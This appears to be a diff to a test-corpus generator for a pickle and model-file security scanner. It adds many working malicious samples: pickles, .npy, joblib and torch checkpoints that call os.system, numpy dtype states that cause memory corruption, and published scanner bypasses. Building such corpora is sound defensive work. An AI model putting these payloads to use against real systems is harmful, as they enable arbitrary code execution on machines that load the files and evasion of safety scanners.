@@ -111,9 +111,9 @@ def inner_pickle_system(proto=2):
     return pk.proto(proto) + pk.system(CMD) + pk.STOP
 
 
-def npy_object_with_system():
+def npy_object_with_system(descr="'|O'"):
     """A .npy file holding an object array whose pickle calls os.system."""
-    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header = "{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % descr
     header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
     body = (pk.proto(2) + pk.call(pk.glob("numpy.core.multiarray", "_reconstruct"),
                                   pk.glob("numpy", "ndarray"), pk.tup(pk.integer(0)),
@@ -269,6 +269,21 @@ def _():
                                   pk.uni("../../../../tmp/jlp-planted.npy"),
                                   pk.glob("numpy", "ndarray"))
             + pk.EMPTY_DICT + pk.BUILD + pk.STOP)
+
+
+@attack("npy_descr_object_word.npy", "dangerous", "readings",
+        "a .npy file whose header's descr is 'object' (numpy.load reads it with numpy.dtype(), "
+        "any spelling): its object array's pickle calls os.system", expect=["numpy"])
+def _():
+    return npy_object_with_system("'object'")
+
+
+@attack("npy_descr_subarray_tuple.npy", "dangerous", "readings",
+        "a .npy file whose header's descr is the tuple ('O', (1,)) (numpy.load's "
+        "descr_to_dtype takes (base, shape)): its object array's pickle calls os.system",
+        expect=["numpy"])
+def _():
+    return npy_object_with_system("('O', (1,))")
 
 
 @attack("int_octal_then_system.pkl", "dangerous", "readings",
@@ -490,6 +505,19 @@ def _():
     return pk.proto(4) + est + pk.STOP
 
 
+@attack("bunch_reconstructor_mean.pkl", "dangerous", "state",
+        "numpy.mean of copyreg._reconstructor(Bunch, dict, {'__array_interface__': {data: "
+        "0x1000}}): dict.__init__ makes the interface a Bunch item, which Bunch gives as an "
+        "attribute, and numpy reads the address (every name is on the safe list; the real "
+        "pickle.load segfaults, pyreadings.py's stand-in Bunch is no dict and cannot show it)")
+def _():
+    iface = pk.dct((pk.uni("shape"), pk.tup(pk.integer(1))), (pk.uni("typestr"), pk.uni("<i8")),
+                   (pk.uni("data"), pk.tup(pk.integer(4096), pk.NEWFALSE)), (pk.uni("version"), pk.integer(3)))
+    bunch = pk.call(pk.glob("copyreg", "_reconstructor"), pk.glob("sklearn.utils._bunch", "Bunch"),
+                    pk.glob("builtins", "dict"), pk.dct((pk.uni("__array_interface__"), iface)))
+    return pk.proto(2) + pk.call(pk.glob("numpy", "mean"), bunch) + pk.STOP
+
+
 @attack("bunch_setitem_array_interface.pkl", "dangerous", "state",
         "SETITEMS puts '__array_interface__' into a Bunch (whose attributes are its keys), "
         "then csr_matrix(bunch) makes numpy follow the pointer", expect=["pickle"])
@@ -513,6 +541,116 @@ def _():
            + pk.tup(pk.integer(1), pk.tup(pk.integer(1)), dt, pk.NEWFALSE,
                     pk.binbytes(struct.pack("<Q", 16))) + pk.BUILD)
     return pk.proto(2) + arr + pk.STOP
+
+
+def np_dtype_object_state(state):
+    """numpy.dtype('O8', False, True) given this BUILD state (a tuple of opcodes)."""
+    return pk.call(pk.glob("numpy", "dtype"), pk.uni("O8"), pk.NEWFALSE, pk.NEWTRUE) + state + pk.BUILD
+
+
+def reconstruct_array(dtype, shape, data):
+    return (pk.call(pk.glob("numpy.core.multiarray", "_reconstruct"), pk.glob("numpy", "ndarray"),
+                    pk.tup(pk.integer(0)), pk.binbytes(b"b"))
+            + pk.tup(pk.integer(1), pk.tup(pk.integer(shape)), dtype, pk.NEWFALSE, data) + pk.BUILD)
+
+
+_M1 = pk.integer(-1)
+
+
+@attack("dtype_object_no_list_pickle.pkl", "dangerous", "state",
+        "an object dtype whose flags (61) keep the has-object bit but not NPY_LIST_PICKLE: "
+        "ndarray.__setstate__ takes 8 raw bytes as an object pointer (Python crashes)",
+        check="loads")
+def _():
+    dt = np_dtype_object_state(pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.NONE, pk.NONE, _M1, _M1,
+                                      pk.integer(61)))
+    return pk.proto(2) + reconstruct_array(dt, 1, pk.binbytes(b"\x41" * 8)) + pk.STOP
+
+
+@attack("dtype_object_no_needs_init.pkl", "dangerous", "state",
+        "an object dtype whose flags (3) lack NPY_NEEDS_INIT: numpy stores the list's items "
+        "into unzeroed memory, dropping references to whatever it held", check="loads")
+def _():
+    dt = np_dtype_object_state(pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.NONE, pk.NONE, _M1, _M1,
+                                      pk.integer(3)))
+    return pk.proto(2) + reconstruct_array(dt, 64, pk.lst(*[pk.integer(5)] * 64)) + pk.STOP
+
+
+@attack("dtype_object_state_without_flags.pkl", "dangerous", "state",
+        "an object dtype given a 7-item state of version 3: numpy sets its flags to 0, and "
+        "the array takes 8 raw bytes as an object pointer", check="loads", expect=["pickle", "pickle-py"])
+def _():
+    dt = np_dtype_object_state(pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.NONE, pk.NONE, _M1, _M1))
+    return pk.proto(2) + reconstruct_array(dt, 1, pk.binbytes(b"\x41" * 8)) + pk.STOP
+
+
+def np_dtype_v8_state(subarray, names, fields, flags):
+    return (pk.call(pk.glob("numpy", "dtype"), pk.uni("V8"), pk.NEWFALSE, pk.NEWTRUE)
+            + pk.tup(pk.integer(3), pk.uni("|"), subarray, names, fields, pk.integer(8), pk.integer(1),
+                     pk.integer(flags)) + pk.BUILD)
+
+
+@attack("dtype_subarray_past_itemsize.pkl", "dangerous", "state",
+        "a V8 dtype state whose subarray is 100 objects: numpy takes it and reads 800 bytes "
+        "of each 8-byte item as object pointers (Python crashes)", check="loads")
+def _():
+    dt = np_dtype_v8_state(pk.tup(np_dtype("O"), pk.tup(pk.integer(100))), pk.NONE, pk.NONE, 27)
+    return pk.proto(2) + reconstruct_array(dt, 2, pk.lst(pk.NONE, pk.NONE)) + pk.STOP
+
+
+@attack("dtype_subarray_f8_past_itemsize.pkl", "dangerous", "state",
+        "a V8 dtype state whose subarray is 100 float64: numpy reads 800 bytes past each item",
+        check="loads", expect=["pickle", "pickle-py"])
+def _():
+    dt = np_dtype_v8_state(pk.tup(np_dtype("<f8"), pk.tup(pk.integer(100))), pk.NONE, pk.NONE, 0)
+    return pk.proto(2) + reconstruct_array(dt, 2, pk.binbytes(b"\x00" * 16)) + pk.STOP
+
+
+@attack("dtype_field_negative_offset.pkl", "dangerous", "state",
+        "a dtype state whose field lies at offset -100000000: numpy takes it and reads and "
+        "writes 100 MB before each item", check="loads", expect=["pickle", "pickle-py"])
+def _():
+    dt = np_dtype_v8_state(pk.NONE, pk.tup(pk.uni("a")),
+                           pk.dct((pk.uni("a"), pk.tup(np_dtype("<f8"), pk.integer(-100000000)))), 0)
+    return pk.proto(2) + reconstruct_array(dt, 2, pk.binbytes(b"\x00" * 16)) + pk.STOP
+
+
+@attack("dtype_second_state.pkl", "dangerous", "state",
+        "a V8 dtype built plainly, an array of it from 8 raw bytes, then a second BUILD of the "
+        "same dtype (from the memo) with an object field: numpy takes it and the array's "
+        "bytes become an object pointer (Python crashes)", check="loads")
+def _():
+    d0 = np_dtype_v8_state(pk.NONE, pk.NONE, pk.NONE, 0) + pk.put(50)
+    objfields = pk.dct((pk.uni("a"), pk.tup(np_dtype("O"), pk.integer(0))))
+    state2 = pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.tup(pk.uni("a")), objfields, pk.integer(8),
+                    pk.integer(1), pk.integer(27))
+    return (pk.proto(2) + pk.EMPTY_LIST + pk.MARK + reconstruct_array(d0, 1, pk.binbytes(b"\x41" * 8))
+            + pk.get(50) + state2 + pk.BUILD + pk.APPENDS + pk.STOP)
+
+
+@attack("dtype_state_after_use.pkl", "dangerous", "state",
+        "a V8 dtype (numpy.dtype without its BUILD yet) used for an array of 8 raw bytes, then "
+        "given a state with an object field: numpy reads the array's bytes as an object "
+        "pointer (Python crashes)", check="loads")
+def _():
+    d = pk.call(pk.glob("numpy", "dtype"), pk.uni("V8"), pk.NEWFALSE, pk.NEWTRUE) + pk.put(60)
+    objfields = pk.dct((pk.uni("a"), pk.tup(np_dtype("O"), pk.integer(0))))
+    state = pk.tup(pk.integer(3), pk.uni("|"), pk.NONE, pk.tup(pk.uni("a")), objfields, pk.integer(8),
+                   pk.integer(1), pk.integer(27))
+    return (pk.proto(2) + pk.EMPTY_LIST + pk.MARK + reconstruct_array(d, 1, pk.binbytes(b"\x41" * 8))
+            + pk.get(60) + state + pk.BUILD + pk.APPENDS + pk.STOP)
+
+
+@attack("dtype_fields_on_float64.pkl", "dangerous", "state",
+        "a float64 dtype given fields (an object at offset 0): numpy takes them, and the "
+        "array's 8 raw bytes read as field 'a' are an object pointer", check="loads",
+        expect=["pickle", "pickle-py"])
+def _():
+    objfields = pk.dct((pk.uni("a"), pk.tup(np_dtype("O"), pk.integer(0))))
+    dt = (pk.call(pk.glob("numpy", "dtype"), pk.uni("f8"), pk.NEWFALSE, pk.NEWTRUE)
+          + pk.tup(pk.integer(3), pk.uni("<"), pk.NONE, pk.tup(pk.uni("a")), objfields, _M1, _M1,
+                   pk.integer(0)) + pk.BUILD)
+    return pk.proto(2) + reconstruct_array(dt, 1, pk.binbytes(b"\x41" * 8)) + pk.STOP
 
 
 @attack("dtype_field_past_itemsize.pkl", "dangerous", "state",
@@ -730,6 +868,10 @@ GADGETS = [
     # (file stem, module, qualname, args, what)
     ("uuid_get_command_stdout", "uuid", "_get_command_stdout", (pk.uni("touch"), pk.uni(MARKER)),
      "uuid's helper runs a command"),
+    ("uuid_netstat_getnode", "uuid", "_netstat_getnode", (),
+     "uuid's helper runs netstat (a program found on PATH, constant arguments)"),
+    ("uuid_getnode", "uuid", "getnode", (),
+     "uuid.getnode runs ip or ifconfig where the uuid module has no native call"),
     ("osx_support_read_output", "_osx_support", "_read_output", (pk.uni(CMD),),
      "_osx_support runs a shell command"),
     ("osx_support_find_build_tool", "_osx_support", "_find_build_tool", (pk.uni("touch"),),
@@ -964,11 +1106,85 @@ def _():
     return lz4.frame.compress(pk.proto(4) + pk.system(CMD) + pk.STOP)
 
 
+@attack("lz4_skippable_frame_split.joblib", "dangerous", "differential",
+        "an lz4 joblib stream split in two frames around a skippable frame, the os.system "
+        "call in the second: python-lz4 skips the skippable frame and reads on",
+        expect=["joblib"])
+def _():
+    import lz4.frame
+    skip = b"\x50\x2a\x4d\x18" + struct.pack("<I", 4) + b"ABCD"
+    return (lz4.frame.compress(pk.proto(4) + pk.EMPTY_LIST + pk.POP) + skip
+            + lz4.frame.compress(pk.system(CMD) + pk.STOP))
+
+
 @attack("second_pickle_after_stop.pkl", "suspicious", "differential",
         "a harmless pickle, then a second one that calls os.system: loaders read only the "
         "first, a loop of pickle.load would run the second")
 def _():
     return pk.proto(2) + pk.NONE + pk.STOP + pk.proto(2) + pk.system(CMD) + pk.STOP
+
+
+# Gadgets of published scanner bypasses (picklescan, fickling and modelscan advisories,
+# 2025-2026), each called with the arguments its advisory used.
+_PY_CMD = "__import__('os').system(%r)" % CMD
+_PUBLISHED = [
+    ("mailcap_findmatch.pkl", "mailcap", "findmatch", "runs a mailcap entry's test command",
+     lambda: (pk.dct((pk.uni("text/plain"), pk.lst(pk.dct((pk.uni("view"), pk.uni("cat %s")),
+                                                           (pk.uni("test"), pk.uni(CMD)))))),
+              pk.uni("text/plain"))),
+    ("f2py_getlincoef.pkl", "numpy.f2py.crackfortran", "getlincoef", "evals its expression",
+     lambda: (pk.uni(_PY_CMD), pk.dct())),
+    ("f2py_eval_length.pkl", "numpy.f2py.crackfortran", "_eval_length", "evals its expression",
+     lambda: (pk.uni(_PY_CMD), pk.dct())),
+    ("pkgutil_resolve_name.pkl", "pkgutil", "resolve_name", "imports and returns os.system",
+     lambda: (pk.uni("os:system"),)),
+    ("importlib_util_find_spec.pkl", "importlib.util", "find_spec", "imports by name",
+     lambda: (pk.uni("os"),)),
+    ("distutils_write_file.pkl", "distutils.file_util", "write_file", "writes a file",
+     lambda: (pk.uni(MARKER), pk.lst(pk.uni("x")))),
+    ("asyncio_unix_subprocess_transport.pkl", "asyncio.unix_events", "_UnixSubprocessTransport",
+     "starts a shell command", lambda: (pk.NONE, pk.NONE, pk.uni(CMD), pk.NEWTRUE, pk.NONE, pk.NONE,
+                                        pk.NONE, pk.integer(0))),
+    ("doctest_debug_script.pkl", "doctest", "debug_script", "runs python code under pdb",
+     lambda: (pk.uni("import os"),)),
+    ("ensurepip_run_pip.pkl", "ensurepip", "_run_pip", "runs pip", lambda: (pk.lst(pk.uni("--version")),)),
+    ("cprofile_runctx.pkl", "cProfile", "runctx", "runs python code",
+     lambda: (pk.uni("import os"), pk.dct(), pk.dct())),
+]
+
+
+def _published(name, module, qualname, what, args):
+    @attack(name, "dangerous", "gadget", "%s.%s %s (a published scanner bypass)" % (module, qualname, what))
+    def _():
+        return pk.proto(2) + pk.call(pk.glob(module, qualname), *args()) + pk.STOP
+
+
+for _p in _PUBLISHED:
+    _published(*_p)
+
+
+@attack("formatter_field_walk_to_eval.pkl", "dangerous", "gadget",
+        "string.Formatter().get_field('0.__globals__', (numpy.mean,), {}) gives numpy's module "
+        "globals, get_field('0[__builtins__][eval]', ...) then eval, called by REDUCE: no "
+        "dangerous name is named", expect=["joblib", "pickle", "pickle-py"])
+def _():
+    gf, fmt = pk.glob("string", "Formatter.get_field"), pk.call(pk.glob("string", "Formatter"))
+    first = lambda x: pk.call(pk.glob("operator", "getitem"), x, pk.integer(0))
+    glb = first(pk.call(gf, fmt, pk.uni("0.__globals__"), pk.tup(pk.glob("numpy", "mean")), pk.dct()))
+    ev = first(pk.call(gf, fmt, pk.uni("0[__builtins__][eval]"), pk.tup(glb), pk.dct()))
+    return pk.proto(4) + ev + pk.tup(pk.uni(PY)) + pk.REDUCE + pk.STOP
+
+
+@attack("numpy_prod_build_patch.pkl", "dangerous", "gadget",
+        "BUILD patches numpy.prod with attributes a='os', b='system', then STACK_GLOBAL of "
+        "the strings read back through the dotted names numpy.prod.a and .b (a modelscan "
+        "bypass)")
+def _():
+    return (pk.proto(5) + pk.glob("numpy", "prod") + pk.NONE + pk.MARK + pk.uni0("a") + pk.uni0("os") + pk.DICT
+            + pk.TUPLE2 + pk.BUILD + pk.NONE + pk.MARK + pk.uni0("b") + pk.uni0("system") + pk.DICT + pk.TUPLE2
+            + pk.BUILD + pk.POP + pk.glob("numpy", "prod.a") + pk.put_text("0") + pk.glob("numpy", "prod.b")
+            + pk.put_text("1") + pk.POP + pk.POP + pk.get_text("0") + pk.get_text("1") + pk.STACK_GLOBAL
+            + pk.uni0("echo x") + pk.TUPLE1 + pk.REDUCE + pk.STOP)
 
 
 # ==== 5. a failed load hides nothing =============================================================
@@ -1173,6 +1389,28 @@ def _():
     body = np_array_body(np.array([0], dtype=object)).replace(b"]K\x00a", b"]cnumpy\nmemmap\na")
     call = pk.glob("copyreg", "__newobj__") + body + pk.REDUCE
     return pk.proto(2) + call + pk.POP + pk.system(CMD) + pk.STOP
+@attack("scalar_long_data_then_system.pkl", "dangerous", "invalid-tail",
+        "numpy's scalar() of 16 bytes for a float64 (numpy takes the first 8), then "
+        "os.system", expect=["joblib", "pickle", "pickle-py"])
+def _():
+    return (pk.proto(2) + pk.call(pk.glob("numpy.core.multiarray", "scalar"), np_dtype("<f8"),
+                                  pk.binbytes(b"\x00" * 16)) + pk.POP + pk.system(CMD) + pk.STOP)
+
+
+@attack("scalar_no_data_then_system.pkl", "dangerous", "invalid-tail",
+        "numpy's scalar() of a float64 without data (numpy makes a zero), then os.system",
+        expect=["joblib", "pickle", "pickle-py"])
+def _():
+    return (pk.proto(2) + pk.call(pk.glob("numpy.core.multiarray", "scalar"), np_dtype("<f8"))
+            + pk.POP + pk.system(CMD) + pk.STOP)
+
+
+@attack("scalar_short_data_then_system.pkl", "dangerous", "invalid-tail",
+        "numpy's scalar() of 4 bytes for a float64 (an error to numpy too), then os.system: "
+        "names after the reader's error are judged")
+def _():
+    return (pk.proto(2) + pk.call(pk.glob("numpy.core.multiarray", "scalar"), np_dtype("<f8"),
+                                  pk.binbytes(b"\x00" * 4)) + pk.POP + pk.system(CMD) + pk.STOP)
 
 
 @attack("inst_without_mark_resolves.pkl", "dangerous", "invalid-tail",
@@ -1225,6 +1463,43 @@ def torch_legacy(main_pickle):
         expect=["torch"])
 def _():
     body = pk.dct((pk.uni("w"), torch_tensor_f4()), (pk.uni("x"), pk.system(CMD)))
+    return torch_zip(pk.proto(2) + body + pk.STOP, {"data/0": b"\x00" * 8})
+
+
+def _patch_local_header(zb, field_off, value):
+    """The zip with bytes of the first member's local header replaced (torch's reader, miniz,
+    takes the method and sizes from the central directory and ignores the local name)."""
+    zb = bytearray(zb)
+    zb[field_off:field_off + len(value)] = value
+    return bytes(zb)
+
+
+@attack("torch_local_method_differs.pt", "dangerous", "torch",
+        "a checkpoint whose data.pkl (os.system) is stored, but whose local header says "
+        "deflated: torch reads the central directory's method and runs it", expect=["torch"])
+def _():
+    return _patch_local_header(torch_zip(pk.proto(2) + pk.system(CMD) + pk.STOP), 8, struct.pack("<H", 8))
+
+
+@attack("torch_local_name_differs.pt", "dangerous", "torch",
+        "a checkpoint whose local header names data.pkl otherwise than the central directory: "
+        "torch's reader ignores the local name and runs its os.system", expect=["torch"])
+def _():
+    return _patch_local_header(torch_zip(pk.proto(2) + pk.system(CMD) + pk.STOP), 30, b"b")
+
+
+@attack("torch_rebuild_from_type_dunder_state.pt", "dangerous", "torch",
+        "a checkpoint whose tensor is torch._tensor._rebuild_from_type_v2 of a real tensor "
+        "with the state {'__class__': torch.Tensor}: torch setattr()s it on the tensor, as "
+        "a BUILD state with a dunder key", expect=["torch"])
+def _():
+    pid = pk.tup(pk.uni("storage"), pk.glob("torch", "FloatStorage"), pk.uni("0"), pk.uni("cpu"),
+                 pk.integer(2)) + b"Q"
+    args = pk.tup(pid, pk.integer(0), pk.tup(pk.integer(2)), pk.tup(pk.integer(1)), pk.NEWFALSE,
+                  pk.call(pk.glob("collections", "OrderedDict")))
+    body = pk.call(pk.glob("torch._tensor", "_rebuild_from_type_v2"), pk.glob("torch._utils", "_rebuild_tensor_v2"),
+                   pk.glob("torch.nn.parameter", "Parameter"), args,
+                   pk.dct((pk.uni("__class__"), pk.glob("torch", "Tensor"))))
     return torch_zip(pk.proto(2) + body + pk.STOP, {"data/0": b"\x00" * 8})
 
 
